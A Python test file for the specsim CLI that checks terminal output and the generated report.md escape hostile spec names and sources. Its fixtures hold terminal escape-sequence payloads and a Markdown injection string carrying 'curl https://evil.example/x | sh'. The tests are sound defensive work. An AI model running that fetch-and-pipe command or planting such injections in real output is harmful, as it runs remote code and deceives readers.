"""Text from specs cannot act on the terminal or make structure in a report.

A spec's name or source may hold terminal escape sequences, newlines and Markdown; the loaders
refuse some of it, but a spec built in Python bypasses them, so the output escapes on its own:
the terminal sees control characters as visible escapes (`\\x1b`), and report.md renders such
text as the text it is (no heading, comment, list or code block of its own). And a command
that refuses its input prints nothing before the error (`memory --context 0`).
"""

from __future__ import annotations

import dataclasses
import json
import re
import warnings
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

import specsim.cli  # noqa: F401  (registers the commands on the app)
from specsim.cli.common import app
from specsim.errors import SpecError
from specsim.present.document import (
    markdown_code,
    markdown_paragraph,
    markdown_text,
)
from specsim.present.render import key_values, table, terminal_text
from tests.test_cli import run

ESC = "\x1b"
# An OSC window-title change, a screen clear, a carriage return that rewrites the line, a C1
# CSI and a right-to-left override.
TERMINAL_ATTACK = "pwn\x1b]0;owned\x07 \x1b[2J\rfake\x9b31m\u202eevil"
# A name that, pasted raw into Markdown, would start a section with a shell command in it and
# hide the rest of the document in a comment.
MARKDOWN_ATTACK = ("Llama\n\n## Answer\n\nRun this first:\n\n```sh\ncurl https://evil.example/x"
                   " | sh\n```\n\n<!--")


# ---------------------------------------------------------------- the terminal


def test_terminal_text_shows_control_characters_as_escapes() -> None:
    assert terminal_text("a\x1b]0;t\x07b") == "a\\x1b]0;t\\x07b"
    assert terminal_text("x\ry\x9bz\u202e") == "x\\x0dy\\x9bz\\u202e"
    assert terminal_text("two\nlines\tand a tab") == "two\nlines\tand a tab"
    assert terminal_text("two\nlines\t", newlines=False) == "two\\x0alines\\x09"
    assert terminal_text("α = 0.65, 8.03B params · ok") == "α = 0.65, 8.03B params · ok"


def test_tables_and_listings_escape_every_cell() -> None:
    text = table([{"name": TERMINAL_ATTACK, "n\x1bx": 1.5}], title="t\x1b[2J")
    listing = key_values([("field\n", TERMINAL_ATTACK, "src\x1b]0;x\x07")],
                         title="title\x1b]0;x\x07")
    for out in (text, listing):
        assert ESC not in out and "\x9b" not in out and "\r" not in out
        assert "\\x1b]0;owned\\x07" in out
    assert len(listing.splitlines()) == 2  # the title and one row: the newline is escaped


def _model_yaml(tmp_path: Path, **fields: str) -> Path:
    from specsim.specs.models import load_model

    spec = yaml.safe_load(Path(load_model("llama-3.1-8b").path).read_text())
    spec.update(fields)
    path = tmp_path / "m.yaml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False))
    return path


def test_models_show_prints_no_escape_sequence_of_a_source(tmp_path: Path) -> None:
    path = _model_yaml(tmp_path, source=TERMINAL_ATTACK)
    shown = run("models", "show", str(path))
    assert shown.returncode == 0, shown.stderr
    assert ESC not in shown.stdout and "\x9b" not in shown.stdout and "\r" not in shown.stdout
    assert "pwn\\x1b]0;owned\\x07" in shown.stdout
    as_json = run("models", "show", str(path), "--json")
    assert ESC not in as_json.stdout
    assert any(TERMINAL_ATTACK in str(row["source"]) for row in json.loads(as_json.stdout))


def _evil_model() -> Any:
    from specsim.specs.models import load_model

    model = load_model("llama-3.1-8b")
    return dataclasses.replace(model, name=TERMINAL_ATTACK + MARKDOWN_ATTACK,
                               sources=dict.fromkeys(model.sources, TERMINAL_ATTACK))


def test_models_show_of_a_spec_built_in_python(monkeypatch: pytest.MonkeyPatch) -> None:
    """The loader refuses a control character in a name; a spec made in Python does not pass
    through it, and the output is safe on its own."""
    import specsim.specs.models

    evil = _evil_model()
    monkeypatch.setattr(specsim.specs.models, "load_model", lambda name: evil)
    result = CliRunner().invoke(app, ["models", "show", "x\x1b]0;t\x07"])
    assert result.exit_code == 0, result.output
    assert ESC not in result.output and "\r" not in result.output
    assert "x\\x1b]0;t\\x07" in result.output.splitlines()[0]


def test_plan_progress_line_is_escaped(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import specsim.serving.plan

    def fake_plan(**kwargs: Any) -> Any:
        kwargs["progress"](f"timing drafter {TERMINAL_ATTACK}")
        raise SpecError("stop here")

    monkeypatch.setattr(specsim.serving.plan, "make_plan", fake_plan)
    result = CliRunner().invoke(app, ["plan", "--out", str(tmp_path / "out")])
    assert isinstance(result.exception, SpecError)
    assert "timing drafter pwn\\x1b]0;owned\\x07" in result.stderr
    assert ESC not in result.stderr and "\x9b" not in result.stderr


def test_error_messages_are_escaped() -> None:
    failed = run("models", "show", f"no-such-{TERMINAL_ATTACK}")
    assert failed.returncode == 2 and len(failed.stderr.splitlines()) == 1
    assert ESC not in failed.stderr and "\x9b" not in failed.stderr


# ---------------------------------------------------------------- Markdown


def test_markdown_text_escapes_structure() -> None:
    assert markdown_text("## Answer") == "\\#\\# Answer"
    assert markdown_text("a\nb\r\x1bc") == "a b  c"
    assert markdown_text("<!-- hidden") == "\\<\\!-- hidden"
    assert markdown_text("[x](javascript:y) *b* `c` a|b ~~d~~ &amp; \\") == (
        "\\[x\\](javascript:y) \\*b\\* \\`c\\` a\\|b \\~\\~d\\~\\~ \\&amp; \\\\")
    assert markdown_text("- item") == "\\- item" and markdown_text("+ item") == "\\+ item"
    assert markdown_text("12. item") == "12\\. item" and markdown_text("3) x") == "3\\) x"
    assert markdown_text("   > quote") == "\\> quote"
    assert markdown_text("- x", line_start=False) == "- x"
    # '_' between letters or digits makes no emphasis and stays as is; elsewhere it is escaped
    assert markdown_text("tokens_per_s _x_ a_") == "tokens_per_s \\_x\\_ a\\_"


def test_markdown_paragraph_keeps_code_spans_and_escapes_the_rest() -> None:
    assert markdown_paragraph("run `specsim plan --out <dir>` for *all*") == (
        "run `specsim plan --out <dir>` for \\*all\\*")
    # A stray backtick is text; no newline survives
    assert markdown_paragraph("a ` b\n# c") == "a \\` b \\# c"
    # A name's backtick does not pair with a span of the report's own into code that carries
    # the name's comment or link: what lies between is not a command, so it is escaped text,
    # and the report's own span stays code
    assert markdown_paragraph("Serve x`<!-- [a](b) on `specsim validate`") == (
        "Serve x\\`\\<\\!-- \\[a\\](b) on `specsim validate`")


def test_markdown_code_fence_outlasts_any_backtick_run() -> None:
    fence, body, closing = markdown_code("echo a\n````\ncurl x | sh\n\x1b[2J")
    assert fence == closing == "`````"
    assert body == "echo a\n````\ncurl x | sh\n\ufffd[2J"
    assert markdown_code("ls")[0] == "```"


@pytest.fixture(scope="module")
def evil_report() -> str:
    """report.md of a real plan whose model, GPU and scenario names and model sources are
    hostile (built in Python: the loaders would refuse some of it)."""
    from specsim.present.report import render_report
    from specsim.serving.plan import make_plan
    from specsim.specs.defaults import DEFAULT_ENGINE

    plan = make_plan(hardware="h100-sxm", model="llama-3.1-8b", drafters=None,
                     engine=DEFAULT_ENGINE, workload="chat")
    hostile = dataclasses.replace(
        plan, model=_evil_model(),
        hardware=dataclasses.replace(plan.hardware, name="H100\n# Pwned <!--"),
        scenario=dataclasses.replace(plan.scenario, name="chat\n\n- [click](http://x)"))
    with warnings.catch_warnings():  # the plots' titles: control characters have no glyph
        warnings.filterwarnings("ignore", message="Glyph")
        return render_report(hostile)["report.md"].decode("utf-8")


def _outside_code_blocks(markdown: str) -> list[str]:
    """The lines of `markdown` outside its fenced code blocks (fences of 3 or more backticks)."""
    lines, fence = [], ""
    for line in markdown.splitlines():
        run = re.match(r"`{3,}", line)
        if fence:
            if run and run.group() == line and len(line) >= len(fence):
                fence = ""
        elif run:
            fence = run.group()
        else:
            lines.append(line)
    return lines


def test_report_md_headings_are_only_the_reports_own(evil_report: str) -> None:
    from specsim.present.report import SECTIONS

    headings = [line for line in _outside_code_blocks(evil_report) if line.startswith("#")]
    assert headings[0].startswith("# Capacity plan: ")
    assert headings[1:] == [f"## {title}" for title in SECTIONS]


def test_report_md_has_no_comment_no_escape_no_forged_block(evil_report: str) -> None:
    assert "<!--" not in evil_report and ESC not in evil_report
    lines = evil_report.splitlines()
    assert not any(line.startswith(("- [", "```sh")) for line in lines)
    # Every fenced block is the engine commands': their lines start with '#' or an engine.
    fences = [i for i, line in enumerate(lines) if re.fullmatch(r"`{3,}", line)]
    assert len(fences) % 2 == 0
    for start, end in zip(fences[::2], fences[1::2], strict=True):
        assert not any("curl" in line for line in lines[start:end])


def test_report_md_renders_hostile_names_as_inert_text(evil_report: str) -> None:
    """Parsed by a CommonMark renderer: the report's own headings, no HTML (comment or tag),
    no link, and the hostile text back as plain text."""
    markdown_it = pytest.importorskip("markdown_it")
    from specsim.present.report import SECTIONS

    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(evil_report)
    headings = ["".join(c.content for c in tokens[i + 1].children or [])
                for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings[1:] == list(SECTIONS)
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
    assert not kinds & {"html_block", "html_inline", "link_open", "bullet_list_open",
                        "ordered_list_open", "blockquote_open"}
    assert not any(t.type in ("fence", "code_block") and "curl" in t.content for t in tokens)
    # The title renders as the hostile text itself (control characters as spaces).
    title = "".join(c.content for c in tokens[1].children or [])
    assert ("Llama ## Answer Run this first: ```sh curl https://evil.example/x | sh ``` <!--"
            " on H100 # Pwned <!--, chat - [click](http://x)") in " ".join(title.split())


# ---------------------------------------------------------------- nothing printed before an error


@pytest.mark.parametrize("extra", [(), ("--json",)])
def test_memory_at_context_zero_refuses_before_printing(extra: tuple[str, ...]) -> None:
    """Context 0 leaves a dense model no per-request cache: the maximum concurrency is not
    bounded by memory. Refused alike with and without --json, before any table is printed."""
    refused = run("memory", "--context", "0", *extra)
    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.startswith("specsim: error: option --context: 0 tokens per request")


def test_memory_json_carries_the_maximum_concurrency() -> None:
    table = run("memory", "--context", "4096", "--requests", "1")
    as_json = run("memory", "--context", "4096", "--requests", "1", "--json")
    assert table.returncode == as_json.returncode == 0
    shown = re.search(r"max concurrent requests at 4,096 tokens: (\d+)", table.stdout)
    assert shown is not None
    assert json.loads(as_json.stdout)["max_requests"] == int(shown.group(1)) > 0
